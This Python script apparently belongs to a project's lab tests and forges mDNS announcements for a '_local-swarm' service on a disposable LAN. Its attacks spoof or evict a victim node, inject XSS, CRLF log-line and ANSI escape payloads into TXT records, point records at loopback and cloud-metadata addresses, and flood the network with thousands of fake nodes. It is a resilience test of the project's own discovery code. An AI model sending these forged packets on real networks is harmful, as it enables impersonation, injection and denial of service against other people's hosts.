"""Forged mDNS announcements, for a host of a throw-away LAN.

    python -m tests.lab.mdns_attacker ADDRESS ATTACK [VICTIM]

ADDRESS is this host's own. VICTIM is the id of a live node, for those attacks that speak in another's name.
"""

from __future__ import annotations

import argparse
import socket
import struct
import time
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass, replace
from types import MappingProxyType

GROUP = ("224.0.0.251", 5353)
SERVICE = (b"_local-swarm", b"_tcp", b"local")
CLASS_IN, CACHE_FLUSH = 1, 0x8000
TYPE_A, TYPE_PTR, TYPE_TXT, TYPE_SRV = 1, 12, 16, 33
LIFE_S = 4500
FLOOD = 3000
FLOOD_S = 0.5
FOREIGN = ("127.0.0.1", "169.254.169.254", "10.77.0.255", "224.0.0.1", "0.0.0.0", "8.8.8.8", "192.168.50.5")


@dataclass(frozen=True)
class Forged:
    """One service instance as a stranger may announce it."""

    instance: bytes
    address: str
    port: int
    text: tuple[bytes, ...]
    life_s: int = LIFE_S

    def packet(self) -> bytes:
        instance, host = name(self.instance, *SERVICE), name(self.instance[:50] or b"x", b"local")
        target = struct.pack(">HHH", 0, 0, self.port) + host
        records = (
            record(name(*SERVICE), TYPE_PTR, instance, self.life_s, CLASS_IN),
            record(instance, TYPE_SRV, target, self.life_s),
            record(instance, TYPE_TXT, b"".join(map(counted, self.text)) or b"\0", self.life_s),
            record(host, TYPE_A, socket.inet_aton(self.address), self.life_s),
        )
        return message(records)


def name(*labels: bytes) -> bytes:
    return b"".join(map(counted, labels)) + b"\0"


def counted(text: bytes) -> bytes:
    return bytes([len(text)]) + text


def record(owner: bytes, kind: int, data: bytes, life_s: int, cls: int = CLASS_IN | CACHE_FLUSH) -> bytes:
    return owner + struct.pack(">HHIH", kind, cls, life_s, len(data)) + data


def message(records: Iterable[bytes]) -> bytes:
    listed = tuple(records)
    return struct.pack(">HHHHHH", 0, 0x8400, 0, len(listed), 0, 0) + b"".join(listed)


def well_formed(number: int, address: str, port: int = 17615, node: str = "") -> Forged:
    """Nothing about it is wrong but that nobody is there."""
    node = node or f"f{number:015d}"
    text = (b"node=" + node.encode(), b"boot=%016d" % number, b"protocol=1", b"version=0.1.0", b"model_id=x")
    return Forged(node.encode(), address, port, text)


def goodbye(_own: str, victim: str) -> Iterator[bytes]:
    yield message([record(name(*SERVICE), TYPE_PTR, name(victim.encode(), *SERVICE), 0, CLASS_IN)])


def hijack(own: str, victim: str) -> Iterator[bytes]:
    """The victim's name, at this host and another port, and once more at the address of nobody."""
    for address in (own, "10.77.0.9"):
        yield well_formed(1, address, 6666, victim).packet()


def markup(own: str, victim: str) -> Iterator[bytes]:
    script = b"<script>alert(1)</script>"
    yield Forged(b"<img src=x onerror=alert(1)>", own, 17615, (b"node=" + script, b"boot=1")).packet()
    yield Forged(b"evilnode1", own, 17615, (b"node=evilnode1", b"boot=" + script, b"model_id=" + script)).packet()
    lines = (b"node=evilnode2", b"boot=1\r\nINFO forged log line", b"hardware_summary=\x1b[31mred")
    yield Forged(b"evilnode2", own, 17615, lines).packet()
    yield Forged(victim.encode(), own, 17615, (b"node=" + victim.encode(), b"boot=\x1b[2J\r\n")).packet()


def oversized(own: str, _victim: str) -> Iterator[bytes]:
    honest = well_formed(2, own)
    yield replace(honest, text=(*honest.text, *(b"k%d=" % number + b"A" * 240 for number in range(33)))).packet()


def foreign(_own: str, _victim: str) -> Iterator[bytes]:
    for number, address in enumerate(FOREIGN):
        for port in (22, 17615):
            yield well_formed(1000 + 10 * number + port % 7, address, port).packet()


def flood(own: str, _victim: str) -> Iterator[bytes]:
    """Nodes that are all said to be at one address where nobody listens."""
    yield from paced(well_formed(10_000 + number, "10.77.0.9") for number in range(FLOOD))


def wide_flood(own: str, _victim: str) -> Iterator[bytes]:
    """The same at as many addresses as there are: each is a place to look."""
    yield from paced(
        well_formed(20_000 + number, f"10.77.0.{20 + number % 200}", 17000 + number) for number in range(FLOOD)
    )


def paced(crowd: Iterable[Forged]) -> Iterator[bytes]:
    """In bursts of 50, so that the receiver's buffer does not lose most of them."""
    for number, forged in enumerate(crowd, 1):
        yield forged.packet()
        if number % 50 == 0:
            time.sleep(FLOOD_S * 50 / FLOOD)


ATTACKS: Mapping[str, Callable[[str, str], Iterator[bytes]]] = MappingProxyType(
    {
        "goodbye": goodbye,
        "hijack": hijack,
        "markup": markup,
        "oversized": oversized,
        "foreign": foreign,
        "flood": flood,
        "wide-flood": wide_flood,
    }
)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("address")
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("victim", nargs="?", default="")
    asked = parser.parse_args()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as mouth:
        mouth.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        mouth.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(asked.address))
        mouth.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
        mouth.bind(("", GROUP[1]))  # As announcements come from there, some listeners hear nothing else.
        for packet in ATTACKS[asked.attack](asked.address, asked.victim):
            mouth.sendto(packet, GROUP)


if __name__ == "__main__":
    main()
